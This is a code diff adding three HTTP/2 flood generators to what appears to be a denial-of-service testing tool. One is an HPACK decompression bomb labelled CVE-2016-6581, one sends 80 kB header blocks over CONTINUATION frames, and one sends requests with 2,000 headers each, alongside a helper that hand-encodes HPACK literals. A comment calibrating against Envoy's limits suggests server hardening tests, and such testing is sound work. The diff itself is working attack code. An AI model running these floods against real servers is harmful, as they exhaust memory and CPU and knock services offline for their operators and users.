@@ -119,10 +119,45 @@ def stalls(connect: bool) -> Iterator[bytes]:
         yield frame(HEADERS, END_HEADERS, number, request(connect))
 
 
+def literal(name: bytes, length: int, *, remembered: bool = False) -> bytes:
+    """A header with a new name of one byte (RFC 7541, 6.2), and a value of 127 bytes or more."""
+    rest, size = length - 127, b""
+    while rest >= 128:
+        size += bytes([rest & 127 | 128])
+        rest >>= 7
+    return (
+        (b"\x40\x01" if remembered else b"\x00\x01") + name + b"\x7f" + size + bytes([rest]) + b"y" * length
+    )
+
+
+def bombs(connect: bool) -> Iterator[bytes]:
+    """CVE-2016-6581: 4 kB that the decoder remembers, and then a byte for each time that they are meant."""
+    numbers = streams()
+    remembered = literal(b"x", 3900, remembered=True)
+    yield frame(HEADERS, END_HEADERS, next(numbers), request(connect) + remembered)
+    for number in numbers:
+        yield frame(HEADERS, END_HEADERS, number, request(connect) + b"\xbe" * 16_000)
+
+
+def long_headers(connect: bool) -> Iterator[bytes]:
+    """Requests of 80 kB each."""
+    for number in streams():
+        yield frame(HEADERS, 0, number, request(connect))
+        for last, name in enumerate((b"a", b"b", b"c", b"d", b"e"), start=-4):
+            yield frame(CONTINUATION, 0 if last else END_HEADERS, number, literal(name, 16_000))
+
+
+def many_headers(connect: bool) -> Iterator[bytes]:
+    """Requests with 2 000 headers each, of 3 bytes."""
+    for number in streams():
+        yield frame(HEADERS, END_HEADERS, number, request(connect) + b"\x00\x01x\x01y" * 2_000)
+
+
 Flood = Callable[[bool], Iterator[bytes]]
 FLOODS: tuple[Flood, ...] = (
     *(resets, continuations, empty_continuations, settings, pings),
     *(nothings, priorities, windows, stalls),
+    *(bombs, long_headers, many_headers),
 )
 MOST = 20_000  # frames: twice the largest of Envoy's limits, that of answers which nobody reads
 
